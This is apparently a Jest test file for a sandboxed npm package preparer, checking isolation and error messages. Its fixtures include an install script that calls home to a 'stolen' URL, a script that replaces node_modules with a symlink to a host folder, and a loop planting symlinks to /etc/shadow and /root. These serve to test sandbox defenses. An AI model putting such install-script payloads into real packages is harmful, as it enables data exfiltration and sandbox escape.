import { existsSync, mkdtempSync, rmSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, describe, expect, test } from "@jest/globals";
import { findProgram } from "../../src/workspace/prepare/host.ts";
import type { MakingLimits } from "../../src/workspace/prepare/make-layer.ts";
import { openPreparer } from "../../src/workspace/prepare/open-preparer.ts";
import type { Preparation, SetupCommand } from "../../src/workspace/preparer.ts";
import { openRegistry, type Mood, type Package, type Registry } from "./registry-fixture.ts";
import { memoryStore, SANDBOX_OPTIONS, sandboxHere } from "./sandbox-fixture.ts";

/** Packages come in from a registry of the test's own, by this machine's npm, in this machine's sandbox. */
const here = await sandboxHere();
const it = here ? test : test.skip;
const repository = memoryStore();
const folder = mkdtempSync(join(tmpdir(), "coop-prepare-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const open: Registry[] = [];
afterEach(async () => {
  for (const one of open.splice(0)) await one.close();
});
async function registry(packages: readonly Package[] = [], mood: Mood = "answers"): Promise<Registry> {
  const one = await openRegistry(packages, mood);
  open.push(one);
  return one;
}

type Files = Readonly<Record<string, string>>;
const LIMITS: MakingLimits = { fetchMs: 60_000, buildMs: 60_000, fetchBytesMax: 2_000_000, idleMs: 800 };
const setup = (run: string): SetupCommand[] => [{ name: "packages", run, timeoutSeconds: 30 }];

async function prepare(
  files: Files,
  from: Registry,
  commands: SetupCommand[] = [],
  more: { readonly limits?: MakingLimits; readonly folder?: string; readonly searchPath?: string } = {},
): Promise<Preparation> {
  const host = {
    searchPath: more.searchPath ?? SANDBOX_OPTIONS.searchPath,
    home: folder,
    environment: { npm_config_registry: from.url },
  };
  const options = { sandbox: here!, host, folder, temporary: tmpdir(), layersBytesMax: 1e9, registries: [] };
  const tree = repository.tree(files);
  return openPreparer({ ...options, limits: LIMITS, ...more }).prepare({
    tree,
    blobs: repository.blobs,
    setup: commands,
  });
}

async function runWith(preparation: Preparation, command: string, files: Files): Promise<string> {
  const { mounts, environment } = preparation.prepared;
  const limits = { timeoutMs: 20_000, outputBytesMax: 20_000 };
  const request = { tree: repository.tree(files), blobs: repository.blobs, command, mounts, environment };
  return (await here!.sandbox.run({ ...request, ...limits })).output;
}

const npm = (dependencies: object): Files => ({
  "package.json": JSON.stringify({ name: "x", version: "1.0.0", dependencies }),
  // npm tries again after ten seconds; that a registry is away shows the first time.
  ".npmrc": "fetch-retries=0\n",
});
const LEFT: Package = { name: "left", files: { "index.js": "module.exports = 7;\n" } };

describe("packages from a registry", () => {
  it("are there in a run, which cannot change them", async () => {
    const files = npm({ left: "1.0.0" });
    const from = await registry([LEFT]);
    const made = await prepare(files, from);
    expect(made).toMatchObject({ outcome: "ready", from: "made" });
    const change = 'echo "module.exports = 8" > node_modules/left/index.js';
    expect(await runWith(made, `${change}; node -p 'require("left")'`, files)).toBe("8\n");
    expect(await runWith(await prepare(files, from), `node -p 'require("left")'`, files)).toBe("7\n");
  });

  it("that put a link to a folder of this machine where a mount will be bring nothing in", async () => {
    const place = "/opt/coop/layer/work/node_modules";
    const move = `const fs = require("node:fs"); fs.renameSync("${place}", "${place}-away"); fs.symlinkSync(${JSON.stringify(folder)}, "${place}");`;
    const more = { scripts: { install: "node move.js" }, hasInstallScript: true };
    const made = await prepare(
      npm({ mover: "1.0.0" }),
      await registry([{ name: "mover", files: { "move.js": move }, more }]),
    );
    expect(made.outcome === "failed" && made.sentence).toMatch(
      /^A package put a link in the place of `work\/node_modules`/,
    );
  });

  it("are found again for the next ticket, without asking anybody", async () => {
    const from = await registry([LEFT]);
    await prepare(npm({ left: "*" }), from);
    const before = from.asked.length;
    const again = await prepare({ ...npm({ left: "*" }), "src/new.js": "" }, from);
    expect(again).toMatchObject({ outcome: "ready", from: "found" });
    expect(from.asked).toHaveLength(before);
  });

  it("whose install script calls home reach nobody, neither while they come in nor later", async () => {
    const home = await registry();
    const call = `require("node:http").get("${home.url}stolen").on("error", () => undefined);`;
    const script = `require("node:fs").writeFileSync("ran", "");${call}`;
    const rude: Package = {
      name: "rude",
      files: { "call.js": script },
      more: { scripts: { install: "node call.js" }, hasInstallScript: true },
    };
    const files = npm({ rude: "1.0.0" });
    const made = await prepare(files, await registry([rude]));
    expect(made.outcome).toBe("ready");
    expect(await runWith(made, "ls node_modules/rude; node node_modules/rude/call.js", files)).toMatch(
      /^call\.js\npackage\.json\nran$/m,
    );
    expect(home.asked).toEqual([]);
  });
});

describe("what cannot be brought in is said in a sentence", () => {
  const sentenceOf = (made: Preparation) => (made.outcome === "failed" ? made.sentence : made.outcome);

  it("a version that the registry does not have", async () => {
    const made = await prepare(npm({ left: "9.9.9" }), await registry([LEFT]));
    expect(sentenceOf(made)).toMatch(/^npm packages \(package\.json\) could not be fetched: .*Mend the manifest/);
    expect(made.outcome === "failed" && made.details.join()).toMatch(/left@9\.9\.9/);
  });

  it("a registry that is down", async () => {
    const gone = await openRegistry([]);
    await gone.close();
    expect(sentenceOf(await prepare(npm({ left: "1" }), gone))).toMatch(
      /the registry 127\.0\.0\.1 could not be reached \(ECONNREFUSED\)\. Try again when it is back/,
    );
  });

  it("a registry that hangs", async () => {
    const made = await prepare(npm({ left: "2" }), await registry([], "hangs"));
    expect(sentenceOf(made)).toMatch(/could not be reached \(it stopped answering\)/);
  });

  (here ? test : test.skip).each<[Mood, RegExp]>([
    ["fails", /the registry 127\.0\.0\.1:\d+ failed on its side \(status 503\)\. Try again when it is back\.$/],
    ["forbids", /the registry 127\.0\.0\.1:\d+ did not let this server in \(status 401\)\. No password goes inside/],
    ["wants-a-login", /the registry 127\.0\.0\.1:\d+ answered with a page for people, such as a login/],
  ])("a registry that %s", async (mood, sentence) => {
    expect(sentenceOf(await prepare(npm({ left: "5" }), await registry([], mood)))).toMatch(sentence);
  });

  it("a registry that drips", async () => {
    const from = await registry([], "drips");
    const limits = { ...LIMITS, fetchMs: 4_000 };
    expect(sentenceOf(await prepare(npm({ left: "4" }), from, [], { limits }))).toMatch(
      /was stopped after [45] seconds, while the registry 127\.0\.0\.1 was still sending \(1 kB so far\)\. Try again when it is faster/,
    );
  });

  it("a registry that never stops sending", async () => {
    const made = await prepare(npm({ left: "3" }), await registry([], "never-ends"));
    expect(sentenceOf(made)).toMatch(/sent more than this server takes for one repository \(2 MB\)/);
  });

  it("a tool that is not there, and the packages of the other parts come in all the same", async () => {
    const tools = mkdtempSync(join(tmpdir(), "coop-npm-alone-"));
    const here = { searchPath: SANDBOX_OPTIONS.searchPath, home: folder, environment: {} };
    for (const name of ["node", "npm"]) symlinkSync(findProgram(here, name) ?? name, join(tools, name));
    const files = { ...npm({ left: "1.0.0" }), "go.mod": "module x\n", "go.sum": "", "a_test.go": "package x\n" };
    const made = await prepare(files, await registry([LEFT]), [], { searchPath: tools });
    expect(sentenceOf(made)).toMatch(/^Go [^:]*\(go\.mod\) cannot be brought in: Go \(`go`\) is not installed/);
    expect(await runWith(made, `node -p 'require("left")'`, files)).toBe("7\n");
    rmSync(tools, { recursive: true });
  });

  it("a lockfile that does not fit its manifest", async () => {
    const lock = { name: "x", version: "1.0.0", lockfileVersion: 3, packages: { "": { name: "x", version: "1.0.0" } } };
    const files = { ...npm({ left: "1.0.0" }), "package-lock.json": JSON.stringify(lock) };
    const made = await prepare(files, await registry([LEFT]));
    expect(sentenceOf(made)).toMatch(/^npm packages \(package-lock\.json\) could not be fetched: .*exit status 1/);
    expect(made.outcome === "failed" && made.details.join(" ")).toMatch(/Missing: left@1\.0\.0 from lock file/);
  });
});

describe("the policy's own setup commands", () => {
  const files: Files = { "package.json": '{"name":"x"}', "tools/list.txt": "one two\n", "src/a.js": "" };

  it("see the whole repository and the registries; every run sees what they leave", async () => {
    const from = await registry([LEFT]);
    const run = [
      "npm install --no-save left",
      "mkdir -p generated && cp tools/list.txt generated/ && echo made > src/made.js",
      "printf '#!/bin/sh\\necho tool\\n' > $PREPARED/bin/tool && chmod +x $PREPARED/bin/tool && echo kept > ~/kept",
    ].join(" && ");
    const made = await prepare(files, from, setup(run));
    expect(made).toMatchObject({ outcome: "ready", what: ["setup (packages)"] });
    const look = "cat generated/list.txt src/made.js ~/kept; tool; node -p 'require(\"left\")'; echo x > src/a.js";
    expect(await runWith(made, look, files)).toBe("one two\nmade\nkept\ntool\n7\n");
  });

  it("reach no other host, and a run reaches none", async () => {
    const [from, other] = [await registry([LEFT]), await registry()];
    const get = (url: string) =>
      `node -e 'require("node:http").get({ host: "127.0.0.1", port: 3128, path: "${url}x" }, (a) => { console.log(a.statusCode); a.resume(); }).on("error", (e) => console.log(e.code))'`;
    const made = await prepare(files, from, setup(`${get(other.url)} > answer.txt; ${get(from.url)} >> answer.txt`));
    expect(await runWith(made, `cat answer.txt; ${get(from.url)}`, files)).toBe("403\n404\nECONNREFUSED\n");
    expect(other.asked).toEqual([]);
  });

  it("may leave thousands of links that lead out, and nobody follows one", async () => {
    const links = [..."/etc/shadow /root . ..".split(" "), process.cwd()];
    const plant = `for (let n = 0; n < 3000; n++) fs.symlinkSync(${JSON.stringify(links)}[n % 5], "node_modules/farm/l" + n)`;
    const run = `mkdir -p node_modules/farm && node -e '${plant}' && ln -s ${process.cwd()} here`;
    const made = await prepare(files, await registry(), setup(run));
    const look =
      "ls node_modules/farm | wc -l; cat node_modules/farm/l0 node_modules/farm/l1/x here/package.json 2>&1 | grep -c 'No such file'";
    expect(await runWith(made, look, files)).toBe("3000\n3\n");
    expect(existsSync("/etc/shadow")).toBe(true);
  });

  it("that fail are named, with what they said", async () => {
    const made = await prepare(files, await registry(), setup("echo reason; exit 3"));
    expect(made).toMatchObject({
      outcome: "failed",
      details: ["reason", 'The setup command "packages" ended with exit status 3'],
    });
    expect(made.outcome === "failed" && made.sentence).toMatch(
      /^setup \(packages\) could not be fetched: .*Mend `setup` in \.github\/coop\.yml/,
    );
  });
});
